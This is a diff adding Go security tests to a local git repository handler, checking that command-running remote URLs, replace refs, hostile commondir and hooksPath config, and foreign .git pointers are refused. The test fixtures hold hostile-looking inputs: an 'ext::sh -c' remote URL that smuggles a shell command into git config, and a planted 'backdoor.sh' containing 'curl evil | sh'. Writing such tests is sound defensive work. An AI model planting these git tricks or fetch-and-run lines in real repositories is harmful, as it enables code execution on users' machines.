@@ -3,6 +3,7 @@ package gitlocal_test
 import (
 	"context"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -188,5 +189,97 @@ func TestObjectStoreOutsideTheRootsIsRefused(t *testing.T) {
 	write(t, filepath.Join(f.repo, ".git", "objects", "info", "alternates"), filepath.Join(inside, "objects")+"\n")
 	if _, _, err := f.p.Resolve(context.Background(), f.repo, ""); err != nil {
 		t.Fatalf("an alternate under the roots: %v", err)
+	}
+}
+
+// TestPartialCloneFetchesNothing: a repository set up as a partial clone
+// whose remote is a command (allowed by its own protocol config) is refused,
+// and no lazy fetch runs the command.
+func TestPartialCloneFetchesNothing(t *testing.T) {
+	f := newFixture(t)
+	marker := filepath.Join(t.TempDir(), "fetched")
+	git(t, f.repo, "config", "extensions.partialClone", "origin")
+	git(t, f.repo, "config", "remote.origin.url", "ext::sh -c touch% "+marker)
+	git(t, f.repo, "config", "remote.origin.promisor", "true")
+	git(t, f.repo, "config", "protocol.ext.allow", "always")
+	write(t, filepath.Join(f.repo, ".git", "refs", "heads", "ghost"), strings.Repeat("1", 40)+"\n")
+	_, _, err := f.p.Resolve(context.Background(), f.repo, "ghost")
+	if err == nil {
+		t.Fatal("a partial clone must be refused")
+	}
+	if _, serr := os.Stat(marker); serr == nil {
+		t.Fatalf("the remote's command ran: %v", err)
+	}
+	// Even without the refusal, no transport runs: GIT_ALLOW_PROTOCOL=none.
+	for _, e := range gitlocal.SafeGitEnv {
+		if e == "GIT_ALLOW_PROTOCOL=none" {
+			return
+		}
+	}
+	t.Fatal("GIT_ALLOW_PROTOCOL=none is not in the git environment")
+}
+
+// TestReplaceRefsDoNotChangeTheAppliedTree: a replace ref for the base
+// commit cannot smuggle content into the opened change.
+func TestReplaceRefsDoNotChangeTheAppliedTree(t *testing.T) {
+	f := newFixture(t)
+	// A commit with an extra file, put in place of c2.
+	write(t, filepath.Join(f.repo, "backdoor.sh"), "curl evil | sh\n")
+	git(t, f.repo, "add", "-A")
+	git(t, f.repo, "commit", "-q", "-m", "evil")
+	evil := git(t, f.repo, "rev-parse", "HEAD")
+	git(t, f.repo, "reset", "-q", "--hard", f.c2)
+	git(t, f.repo, "replace", f.c2, evil)
+	ch, err := f.p.OpenChange(context.Background(), f.request("autofix/rem-replace"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("git", "--no-replace-objects", "-C", f.repo, "diff-tree", "-r", "--name-only", "--no-commit-id", f.c2, ch.HeadSHA)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.TrimSpace(string(out)) != "hello.txt" || len(ch.Files) != 1 {
+		t.Fatalf("the change holds more than the approved diff: %q %v", out, ch.Files)
+	}
+}
+
+// TestWorkspaceNamesAreFixed: a repository named like the workspace's git
+// dir cannot make its tracked files the git dir.
+func TestWorkspaceNamesAreFixed(t *testing.T) {
+	root := t.TempDir()
+	for _, name := range []string{"git", "gitdir", "work"} {
+		repo := filepath.Join(root, name)
+		write(t, filepath.Join(repo, "commondir"), "evil\n")
+		write(t, filepath.Join(repo, "evil", "config"), "[core]\n\thooksPath = /tmp\n")
+		git(t, repo, "init", "-q", "-b", "main")
+		git(t, repo, "add", "-A")
+		git(t, repo, "commit", "-q", "-m", "x")
+		p, err := gitlocal.New(gitlocal.Options{Roots: []string{root}, ScratchDir: t.TempDir()})
+		if err != nil {
+			t.Fatal(err)
+		}
+		ws, err := p.Checkout(context.Background(), repo, "HEAD")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if ws.Dir == ws.GitDir || strings.HasPrefix(ws.GitDir, ws.Dir+"/") {
+			t.Fatalf("%s: work tree %s and git dir %s overlap", name, ws.Dir, ws.GitDir)
+		}
+		if _, err := os.Stat(filepath.Join(ws.GitDir, "commondir")); err == nil {
+			t.Fatalf("%s: tracked files reached the git dir", name)
+		}
+		ws.Cleanup()
+	}
+}
+
+// TestGitDirMustBeTheRepositorysOwn: a .git file pointing into another
+// repository under the roots is refused.
+func TestGitDirMustBeTheRepositorysOwn(t *testing.T) {
+	f := newFixture(t)
+	innocent := filepath.Join(f.root, "innocent")
+	write(t, filepath.Join(innocent, ".git"), "gitdir: "+filepath.Join(f.repo, ".git")+"\n")
+	if _, _, err := f.p.Resolve(context.Background(), innocent, ""); gitlocal.KindOf(err) != gitlocal.KindInvalidRepo {
+		t.Fatalf("want invalid_repo, got %v", err)
 	}
 }
